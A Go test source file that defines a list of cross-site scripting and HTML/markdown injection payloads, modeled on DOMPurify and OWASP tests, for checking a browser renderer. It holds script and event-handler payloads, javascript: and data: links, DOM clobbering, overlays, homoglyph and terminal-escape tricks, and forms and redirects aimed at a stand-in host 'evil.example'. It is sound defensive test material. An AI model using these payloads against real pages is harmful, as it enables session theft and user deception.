//go:build browser

package browser

// Texts that attack pages which render what others wrote: the kinds of payloads that DOMPurify and
// OWASP test with, in our own words.

import "encoding/json"

// line returns a value as a line of JSON.
func line(value any) string {
	text, err := json.Marshal(value)
	if err != nil {
		panic(err)
	}
	return string(text) + "\n"
}

func hostileTexts() []string {
	return []string{
		"<script>alert(1)</script>",
		"<img src=x onerror=alert(1)>",
		"<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x dur=1s>",
		"<svg><style><img src=x onerror=alert(1)></style></svg>",
		"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
		"<iframe srcdoc='<script>alert(1)</script>'></iframe>",
		"<iframe src=javascript:alert(1)></iframe>",
		"<object data=data:text/html,<script>alert(1)</script>></object><embed src=javascript:alert(1)>",
		"<a href=javascript:alert(1)>x</a> <a href=\"jav&#x0A;ascript:alert(1)\">y</a>",
		"[x](javascript:alert(1)) [y](JaVaScRiPt:alert(1)) [z](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
		"[x](vbscript:msgbox(1)) [y](file:///etc/passwd) [z](&#106;avascript:alert(1)) [w](java\tscript:alert(1))",
		"![track](https://evil.example/pixel.png) ![d](data:image/svg+xml,<svg onload=alert(1)>)",
		"[x]: javascript:alert(1)\n\n[x]",
		"<https://evil.example/\" onmouseover=alert(1) x=\">",
		"[a](https://evil.example \"onmouseover=alert(1) x=\")",
		"`<img src=x onerror=alert(1)>`\n\n```html\n<script>alert(1)</script>\n```",
		"```\"><img src=x onerror=alert(1)>\ncode\n```",
		"<form action=https://evil.example><input name=token><button>Approve</button></form>",
		"<button data-act=\"approve\" onclick=alert(1)>Approve</button>",
		"<div style=\"position:fixed;inset:0;z-index:99999;background:red\">covered</div>",
		"<style>*{display:none}</style><link rel=stylesheet href=https://evil.example/x.css>",
		"<base href=https://evil.example/><meta http-equiv=refresh content=0;url=https://evil.example>",
		"<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
		"<details open ontoggle=alert(1)><summary>x</summary></details>",
		"<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)><textarea autofocus onfocus=alert(1)>",
		"<body onload=alert(1)><marquee onstart=alert(1)>x</marquee>",
		"<template><script>alert(1)</script></template><noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
		"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
		"<a id=location name=body href=#>clobber</a><img name=getElementById><form id=app><input id=attributes></form>",
		"<p id=main data-need=\"x\" data-run=\"x\" data-act=\"confirm\" class=\"dialog overlay\">posing</p>",
		"# One\n## Two\n<h1 id=title>Mine</h1>",
		"<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
		"<![CDATA[<img src=x onerror=alert(1)>]]><?xml-stylesheet href=javascript:alert(1)?>",
		"<img src=`x`onerror=alert(1)> <img/src=x/onerror=alert(1)> <IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
		"&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
		"\u202eexe.txt \u2066hidden\u2069 \ue000private\ue001 zero\u200bwidth",
		"[https://good.example](https://evil.example) [pаypal](https://pаypal.example/)",
		"| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [x](javascript:alert(1)) | <b>y</b> |",
		"- [x] <script>alert(1)</script>\n- [ ] <input onclick=alert(1)>",
		"${alert(1)} {{constructor.constructor('alert(1)')()}} #{alert(1)}",
		"\x1b]0;title\x07\x1b]8;;javascript:alert(1)\x1b\\click\x1b]8;;\x1b\\ \x1b[2J\x1b[31mred",
		"<a href=\"https://evil.example\" target=_self rel=opener ping=https://evil.example/ping>x</a>",
	}
}
